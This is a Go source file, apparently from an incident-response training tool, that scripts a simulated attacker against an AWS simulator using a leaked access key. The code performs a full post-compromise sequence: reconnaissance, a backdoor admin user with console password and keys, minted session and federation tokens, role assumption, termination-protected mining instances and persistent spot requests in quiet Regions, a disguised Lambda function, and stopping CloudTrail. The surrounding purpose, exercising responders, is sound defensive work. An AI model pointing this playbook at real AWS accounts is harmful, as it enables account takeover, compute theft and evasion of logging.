@@ -1,0 +1,498 @@
+package scenario
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"math/rand/v2"
+	"slices"
+	"sync"
+	"time"
+
+	"github.com/aws/aws-sdk-go-v2/aws"
+	"github.com/aws/aws-sdk-go-v2/service/cloudtrail"
+	"github.com/aws/aws-sdk-go-v2/service/ec2"
+	ec2types "github.com/aws/aws-sdk-go-v2/service/ec2/types"
+	"github.com/aws/aws-sdk-go-v2/service/iam"
+	"github.com/aws/aws-sdk-go-v2/service/lambda"
+	lambdatypes "github.com/aws/aws-sdk-go-v2/service/lambda/types"
+	"github.com/aws/aws-sdk-go-v2/service/sts"
+	"github.com/aws/smithy-go"
+
+	"github.com/warroom-ir/warroom/aws/sim"
+)
+
+// The attacker: a Go client of the sim holding the leaked key. It works in
+// rounds. The first rounds establish footholds (reconnaissance, a backdoor
+// user, a second key, temporary credentials, an assumed admin role, miners
+// in Regions the account never used, persistent spot requests, a Lambda
+// function, and the trail stopped); every round after that it uses what it
+// holds. Each call is tried with the credentials in order of preference;
+// one that fails authentication is checked and dropped when dead, one that
+// is denied is skipped for that call, so only complete containment stops it.
+
+const (
+	attackerIP    = "127.0.0.66"
+	attackerAgent = "Boto3/1.9.201 Python/2.7.16 Linux/4.19.0-kali5-amd64 Botocore/1.12.201"
+	attackerKey   = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDf3v2ecX0jmC7Zb3AAZpB9Tz0rI2hDnn8B8wSEoFfWbO5yK0H6o5e7c2E8qGqYx1Xv root@kali"
+)
+
+// The kinds of credential the attacker may hold, in order of preference.
+const (
+	KindLeaked     = "leaked key"
+	KindOwnKey     = "second key"
+	KindSession    = "session token"
+	KindFederation = "federation token"
+	KindRole       = "role session"
+	KindBackdoor   = "backdoor user key"
+)
+
+var kindOrder = []string{KindLeaked, KindOwnKey, KindSession, KindFederation, KindRole, KindBackdoor}
+
+// Held is one credential the attacker holds, as tests see it (no secret).
+type Held struct {
+	Kind        string
+	AccessKeyID string
+	// Dead is set once the credential failed authentication for good.
+	Dead bool
+}
+
+type held struct {
+	Held
+	creds sim.Credentials
+}
+
+// Attacker is the scenario's attacker. Its methods are safe for concurrent use.
+type Attacker struct {
+	sc  *Scenario
+	id  *identity
+	rng *rand.Rand
+
+	mu          sync.Mutex
+	held        []*held
+	keys        map[string]bool
+	regions     []string // where it launched instances
+	spotRegions []string
+	established chan struct{}
+
+	backdoor  string
+	trailName string
+}
+
+func newAttacker(sc *Scenario) *Attacker {
+	a := &Attacker{sc: sc, id: newIdentity(attackerIP, attackerAgent),
+		rng:  rand.New(rand.NewPCG(sc.opts.Seed^0xa77ac4e2, sc.opts.Seed+1)),
+		keys: map[string]bool{}, established: make(chan struct{})}
+	a.add(KindLeaked, sc.leaked)
+	return a
+}
+
+// Established is closed once the attacker holds all its footholds.
+func (a *Attacker) Established() <-chan struct{} { return a.established }
+
+// Holds lists the credentials the attacker holds, in order of preference.
+func (a *Attacker) Holds() []Held {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	out := make([]Held, 0, len(a.held))
+	for _, h := range a.held {
+		out = append(out, h.Held)
+	}
+	return out
+}
+
+// BackdoorUser is the name of the user the attacker created ("" before).
+func (a *Attacker) BackdoorUser() string {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	return a.backdoor
+}
+
+// Regions lists the Regions the attacker launched instances in.
+func (a *Attacker) Regions() []string {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	return slices.Clone(a.regions)
+}
+
+// owns reports whether the attacker ever held access key id.
+func (a *Attacker) owns(id string) bool {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	return a.keys[id]
+}
+
+// CallsSince returns every call the attacker made at or after t, from the
+// sim's own record.
+func (a *Attacker) CallsSince(t time.Time) []sim.Call {
+	var out []sim.Call
+	for _, c := range a.sc.sim.Calls() {
+		if !c.Time.Before(t) && a.owns(c.AccessKeyID) {
+			out = append(out, c)
+		}
+	}
+	return out
+}
+
+// SuccessesSince returns the attacker's successful calls at or after t.
+// sts:GetCallerIdentity is left out: it needs no permission and no policy
+// can deny it, so it proves only that a key exists, not that it works.
+func (a *Attacker) SuccessesSince(t time.Time) []sim.Call {
+	var out []sim.Call
+	for _, c := range a.CallsSince(t) {
+		if c.OK() && c.Operation != "GetCallerIdentity" {
+			out = append(out, c)
+		}
+	}
+	return out
+}
+
+func (a *Attacker) add(kind string, c sim.Credentials) {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	a.keys[c.AccessKeyID] = true
+	a.held = append(a.held, &held{Held: Held{Kind: kind, AccessKeyID: c.AccessKeyID}, creds: c})
+	slices.SortStableFunc(a.held, func(x, y *held) int {
+		return slices.Index(kindOrder, x.Kind) - slices.Index(kindOrder, y.Kind)
+	})
+}
+
+// candidates returns the live credentials of the given kinds (all when none).
+func (a *Attacker) candidates(kinds []string) []*held {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	var out []*held
+	for _, h := range a.held {
+		if !h.Dead && (len(kinds) == 0 || slices.Contains(kinds, h.Kind)) {
+			out = append(out, h)
+		}
+	}
+	return out
+}
+
+// errClass sorts an API error into what the attacker does about it.
+type errClass int
+
+const (
+	errOther  errClass = iota // give up on this call for the round
+	errAuth                   // the credential may be dead
+	errDenied                 // this credential may not do this
+)
+
+func classify(err error) errClass {
+	var ae smithy.APIError
+	if !errors.As(err, &ae) {
+		return errOther
+	}
+	switch ae.ErrorCode() {
+	case "InvalidClientTokenId", "AuthFailure", "UnrecognizedClientException", "InvalidAccessKeyId", "ExpiredToken",
+		"ExpiredTokenException", "RequestExpired", "SignatureDoesNotMatch", "InvalidSignatureException":
+		return errAuth
+	case "AccessDenied", "AccessDeniedException", "UnauthorizedOperation":
+		return errDenied
+	}
+	return errOther
+}
+
+func (a *Attacker) cfg(h *held, region string) aws.Config {
+	return a.id.config(a.sc.endpoint, h.creds, region)
+}
+
+// alive checks a credential that failed authentication: GetCallerIdentity
+// works for every live credential (a session token cannot call IAM, which
+// answers as if the key were unknown).
+func (a *Attacker) alive(ctx context.Context, h *held) bool {
+	_, err := sts.NewFromConfig(a.cfg(h, homeRgn)).GetCallerIdentity(ctx, &sts.GetCallerIdentityInput{})
+	return err == nil || classify(err) != errAuth
+}
+
+// try runs call with each usable credential until one succeeds. It returns
+// the credential that worked.
+func (a *Attacker) try(ctx context.Context, what string, kinds []string, call func(cfg func(region string) aws.Config) error) (*held, error) {
+	var last error = fmt.Errorf("no usable credential")
+	for _, h := range a.candidates(kinds) {
+		err := call(func(region string) aws.Config { return a.cfg(h, region) })
+		if err == nil {
+			a.sc.logf("attacker: %s with %s %s", what, h.Kind, h.AccessKeyID)
+			return h, nil
+		}
+		last = err
+		switch classify(err) {
+		case errAuth:
+			if ctx.Err() == nil && !a.alive(ctx, h) {
+				a.mu.Lock()
+				h.Dead = true
+				a.mu.Unlock()
+				a.sc.logf("attacker: %s %s is dead, falling back", h.Kind, h.AccessKeyID)
+			}
+			continue
+		case errDenied:
+			continue
+		}
+		break
+	}
+	a.sc.logf("attacker: %s failed: %v", what, last)
+	return nil, last
+}
+
+// run plays the attacker until ctx is done.
+func (a *Attacker) run(ctx context.Context) {
+	stages := []func(context.Context){a.recon, a.persist, a.mint, a.launch, a.spot, a.cover}
+	for round := 0; ctx.Err() == nil; round++ {
+		if round < len(stages) {
+			stages[round](ctx)
+			if round == len(stages)-1 {
+				close(a.established)
+			}
+		} else {
+			a.use(ctx, round)
+		}
+		if a.sc.pace(ctx, a.sc.opts.Round) != nil {
+			return
+		}
+	}
+}
+
+// ---- the establishing rounds ----
+
+func (a *Attacker) recon(ctx context.Context) {
+	self := []string{KindLeaked}
+	_, _ = a.try(ctx, "GetCallerIdentity", self, func(cfg func(string) aws.Config) error {
+		_, err := sts.NewFromConfig(cfg(homeRgn)).GetCallerIdentity(ctx, &sts.GetCallerIdentityInput{})
+		return err
+	})
+	_, _ = a.try(ctx, "ListUsers", nil, func(cfg func(string) aws.Config) error {
+		_, err := iam.NewFromConfig(cfg(homeRgn)).ListUsers(ctx, &iam.ListUsersInput{})
+		return err
+	})
+	_, _ = a.try(ctx, "ListRoles", nil, func(cfg func(string) aws.Config) error {
+		_, err := iam.NewFromConfig(cfg(homeRgn)).ListRoles(ctx, &iam.ListRolesInput{})
+		return err
+	})
+	_, _ = a.try(ctx, "ListAttachedUserPolicies", self, func(cfg func(string) aws.Config) error {
+		_, err := iam.NewFromConfig(cfg(homeRgn)).ListAttachedUserPolicies(ctx, &iam.ListAttachedUserPoliciesInput{UserName: aws.String(a.sc.leakedUser)})
+		return err
+	})
+	_, _ = a.try(ctx, "ListAccessKeys", self, func(cfg func(string) aws.Config) error {
+		_, err := iam.NewFromConfig(cfg(homeRgn)).ListAccessKeys(ctx, &iam.ListAccessKeysInput{})
+		return err
+	})
+	_, _ = a.try(ctx, "GetAccountSummary", nil, func(cfg func(string) aws.Config) error {
+		_, err := iam.NewFromConfig(cfg(homeRgn)).GetAccountSummary(ctx, &iam.GetAccountSummaryInput{})
+		return err
+	})
+	var regions []string
+	_, _ = a.try(ctx, "DescribeRegions", nil, func(cfg func(string) aws.Config) error {
+		out, err := ec2.NewFromConfig(cfg(homeRgn)).DescribeRegions(ctx, &ec2.DescribeRegionsInput{AllRegions: aws.Bool(true)})
+		if err == nil {
+			for _, r := range out.Regions {
+				if aws.ToString(r.OptInStatus) != "not-opted-in" {
+					regions = append(regions, aws.ToString(r.RegionName))
+				}
+			}
+		}
+		return err
+	})
+	_, _ = a.try(ctx, "DescribeTrails", nil, func(cfg func(string) aws.Config) error {
+		out, err := cloudtrail.NewFromConfig(cfg(homeRgn)).DescribeTrails(ctx, &cloudtrail.DescribeTrailsInput{})
+		if err == nil && len(out.TrailList) > 0 {
+			a.mu.Lock()
+			a.trailName = aws.ToString(out.TrailList[0].Name)
+			a.mu.Unlock()
+		}
+		return err
+	})
+	// Regions the account never uses, where miners are less likely to be seen.
+	quiet := []string{"ap-southeast-3", "me-central-1", "af-south-1", "ap-east-1", "eu-south-2", "sa-east-1", "ap-northeast-3", "ca-west-1"}
+	a.rng.Shuffle(len(quiet), func(i, j int) { quiet[i], quiet[j] = quiet[j], quiet[i] })
+	var pick []string
+	for _, r := range quiet {
+		if len(regions) == 0 || slices.Contains(regions, r) {
+			pick = append(pick, r)
+		}
+	}
+	a.mu.Lock()
+	a.regions = pick[:min(3, len(pick))]
+	if len(pick) > 3 {
+		a.spotRegions = pick[3:min(5, len(pick))]
+	}
+	a.mu.Unlock()
+}
+
+func (a *Attacker) persist(ctx context.Context) {
+	names := []string{"svc-monitoring", "aws-support-ops", "backup-svc", "cloudwatch-agent"}
+	name := names[a.rng.IntN(len(names))]
+	if _, err := a.try(ctx, "CreateUser "+name, nil, func(cfg func(string) aws.Config) error {
+		_, err := iam.NewFromConfig(cfg(homeRgn)).CreateUser(ctx, &iam.CreateUserInput{UserName: aws.String(name)})
+		return err
+	}); err != nil {
+		return
+	}
+	a.mu.Lock()
+	a.backdoor = name
+	a.mu.Unlock()
+	_, _ = a.try(ctx, "AttachUserPolicy AdministratorAccess", nil, func(cfg func(string) aws.Config) error {
+		_, err := iam.NewFromConfig(cfg(homeRgn)).AttachUserPolicy(ctx, &iam.AttachUserPolicyInput{UserName: aws.String(name),
+			PolicyArn: aws.String(adminPolicy)})
+		return err
+	})
+	_, _ = a.try(ctx, "CreateLoginProfile", nil, func(cfg func(string) aws.Config) error {
+		_, err := iam.NewFromConfig(cfg(homeRgn)).CreateLoginProfile(ctx, &iam.CreateLoginProfileInput{UserName: aws.String(name),
+			Password: aws.String(a.password())})
+		return err
+	})
+	_, _ = a.try(ctx, "CreateAccessKey backdoor", nil, func(cfg func(string) aws.Config) error {
+		out, err := iam.NewFromConfig(cfg(homeRgn)).CreateAccessKey(ctx, &iam.CreateAccessKeyInput{UserName: aws.String(name)})
+		if err == nil {
+			a.add(KindBackdoor, sim.Credentials{AccessKeyID: aws.ToString(out.AccessKey.AccessKeyId), SecretAccessKey: aws.ToString(out.AccessKey.SecretAccessKey)})
+		}
+		return err
+	})
+	_, _ = a.try(ctx, "CreateAccessKey self", []string{KindLeaked}, func(cfg func(string) aws.Config) error {
+		out, err := iam.NewFromConfig(cfg(homeRgn)).CreateAccessKey(ctx, &iam.CreateAccessKeyInput{})
+		if err == nil {
+			a.add(KindOwnKey, sim.Credentials{AccessKeyID: aws.ToString(out.AccessKey.AccessKeyId), SecretAccessKey: aws.ToString(out.AccessKey.SecretAccessKey)})
+		}
+		return err
+	})
+}
+
+// password is a console password for the backdoor. It is never logged.
+func (a *Attacker) password() string {
+	const alphabet = "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789!#%"
+	b := make([]byte, 20)
+	for i := range b {
+		b[i] = alphabet[a.rng.IntN(len(alphabet))]
+	}
+	return string(b)
+}
+
+func (a *Attacker) mint(ctx context.Context) {
+	users := []string{KindLeaked, KindOwnKey}
+	_, _ = a.try(ctx, "GetSessionToken", users, func(cfg func(string) aws.Config) error {
+		out, err := sts.NewFromConfig(cfg(homeRgn)).GetSessionToken(ctx, &sts.GetSessionTokenInput{DurationSeconds: aws.Int32(129600)})
+		if err == nil {
+			a.add(KindSession, stsCreds(out.Credentials.AccessKeyId, out.Credentials.SecretAccessKey, out.Credentials.SessionToken, out.Credentials.Expiration))
+		}
+		return err
+	})
+	_, _ = a.try(ctx, "GetFederationToken", users, func(cfg func(string) aws.Config) error {
+		out, err := sts.NewFromConfig(cfg(homeRgn)).GetFederationToken(ctx, &sts.GetFederationTokenInput{Name: aws.String("ops-admin"),
+			DurationSeconds: aws.Int32(129600),
+			Policy:          aws.String(`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}`)})
+		if err == nil {
+			a.add(KindFederation, stsCreds(out.Credentials.AccessKeyId, out.Credentials.SecretAccessKey, out.Credentials.SessionToken, out.Credentials.Expiration))
+		}
+		return err
+	})
+	roleARN := fmt.Sprintf("arn:aws:iam::%s:role/%s", a.sc.sim.AccountID(), a.sc.adminRole)
+	_, _ = a.try(ctx, "AssumeRole "+a.sc.adminRole, users, func(cfg func(string) aws.Config) error {
+		out, err := sts.NewFromConfig(cfg(homeRgn)).AssumeRole(ctx, &sts.AssumeRoleInput{RoleArn: aws.String(roleARN),
+			RoleSessionName: aws.String(fmt.Sprintf("botocore-session-%d", 1700000000+a.rng.IntN(99999999)))})
+		if err == nil {
+			a.add(KindRole, stsCreds(out.Credentials.AccessKeyId, out.Credentials.SecretAccessKey, out.Credentials.SessionToken, out.Credentials.Expiration))
+		}
+		return err
+	})
+}
+
+func stsCreds(id, secret, token *string, exp *time.Time) sim.Credentials {
+	return sim.Credentials{AccessKeyID: aws.ToString(id), SecretAccessKey: aws.ToString(secret), SessionToken: aws.ToString(token),
+		Expires: aws.ToTime(exp)}
+}
+
+var bigTypes = []ec2types.InstanceType{ec2types.InstanceTypeP316xlarge, ec2types.InstanceTypeG4dn12xlarge, ec2types.InstanceTypeC524xlarge,
+	ec2types.InstanceTypeP4d24xlarge, ec2types.InstanceTypeG5Xlarge}
+
+// importKey imports the attacker's SSH key in region.
+func (a *Attacker) importKey(ctx context.Context, region string) {
+	_, _ = a.try(ctx, "ImportKeyPair "+region, nil, func(cfg func(string) aws.Config) error {
+		_, err := ec2.NewFromConfig(cfg(region)).ImportKeyPair(ctx, &ec2.ImportKeyPairInput{KeyName: aws.String("kali"),
+			PublicKeyMaterial: []byte(attackerKey)})
+		var ae smithy.APIError
+		if errors.As(err, &ae) && ae.ErrorCode() == "InvalidKeyPair.Duplicate" {
+			return nil
+		}
+		return err
+	})
+}
+
+// runMiners launches count protected instances in region.
+func (a *Attacker) runMiners(ctx context.Context, region string, count int32) {
+	typ := bigTypes[a.rng.IntN(len(bigTypes))]
+	_, _ = a.try(ctx, fmt.Sprintf("RunInstances %d×%s in %s", count, typ, region), nil, func(cfg func(string) aws.Config) error {
+		_, err := ec2.NewFromConfig(cfg(region)).RunInstances(ctx, &ec2.RunInstancesInput{ImageId: aws.String("ami-0a4e637babb7b0a86"),
+			InstanceType: typ, KeyName: aws.String("kali"), MinCount: aws.Int32(1), MaxCount: aws.Int32(count),
+			DisableApiTermination: aws.Bool(true), DisableApiStop: aws.Bool(true),
+			TagSpecifications: []ec2types.TagSpecification{{ResourceType: ec2types.ResourceTypeInstance,
+				Tags: []ec2types.Tag{{Key: aws.String("Name"), Value: aws.String("worker")}}}}})
+		return err
+	})
+}
+
+func (a *Attacker) launch(ctx context.Context) {
+	for _, r := range a.Regions() {
+		a.importKey(ctx, r)
+		a.runMiners(ctx, r, int32(2+a.rng.IntN(3)))
+	}
+}
+
+func (a *Attacker) spot(ctx context.Context) {
+	a.mu.Lock()
+	regions := slices.Clone(a.spotRegions)
+	a.mu.Unlock()
+	for _, r := range regions {
+		a.importKey(ctx, r)
+		_, _ = a.try(ctx, "RequestSpotInstances persistent in "+r, nil, func(cfg func(string) aws.Config) error {
+			_, err := ec2.NewFromConfig(cfg(r)).RequestSpotInstances(ctx, &ec2.RequestSpotInstancesInput{
+				Type: ec2types.SpotInstanceTypePersistent, InstanceCount: aws.Int32(2), SpotPrice: aws.String("30.00"),
+				LaunchSpecification: &ec2types.RequestSpotLaunchSpecification{ImageId: aws.String("ami-0a4e637babb7b0a86"),
+					InstanceType: ec2types.InstanceTypeP316xlarge, KeyName: aws.String("kali")}})
+			return err
+		})
+	}
+}
+
+func (a *Attacker) cover(ctx context.Context) {
+	regions := a.Regions()
+	if len(regions) > 0 {
+		region := regions[0]
+		roleARN := fmt.Sprintf("arn:aws:iam::%s:role/%s", a.sc.sim.AccountID(), a.sc.lambdaRole)
+		_, _ = a.try(ctx, "CreateFunction in "+region, nil, func(cfg func(string) aws.Config) error {
+			_, err := lambda.NewFromConfig(cfg(region)).CreateFunction(ctx, &lambda.CreateFunctionInput{FunctionName: aws.String("log-forwarder"),
+				Runtime: lambdatypes.RuntimePython312, Role: aws.String(roleARN), Handler: aws.String("index.handler"),
+				Code: &lambdatypes.FunctionCode{ZipFile: []byte("PK\x03\x04import os, urllib.request")}})
+			return err
+		})
+	}
+	a.mu.Lock()
+	trail := a.trailName
+	a.mu.Unlock()
+	if trail != "" {
+		_, _ = a.try(ctx, "StopLogging "+trail, nil, func(cfg func(string) aws.Config) error {
+			_, err := cloudtrail.NewFromConfig(cfg(homeRgn)).StopLogging(ctx, &cloudtrail.StopLoggingInput{Name: aws.String(trail)})
+			return err
+		})
+	}
+}
+
+// use is a round after the footholds are in: look at the miners, look at
+// the users, and now and then launch more.
+func (a *Attacker) use(ctx context.Context, round int) {
+	regions := a.Regions()
+	if len(regions) == 0 {
+		regions = []string{homeRgn}
+	}
+	region := regions[round%len(regions)]
+	_, _ = a.try(ctx, "DescribeInstances "+region, nil, func(cfg func(string) aws.Config) error {
+		_, err := ec2.NewFromConfig(cfg(region)).DescribeInstances(ctx, &ec2.DescribeInstancesInput{})
+		return err
+	})
+	_, _ = a.try(ctx, "ListUsers", nil, func(cfg func(string) aws.Config) error {
+		_, err := iam.NewFromConfig(cfg(homeRgn)).ListUsers(ctx, &iam.ListUsersInput{})
+		return err
+	})
+	if round%2 == 0 {
+		a.runMiners(ctx, region, 1)
+	}
+}
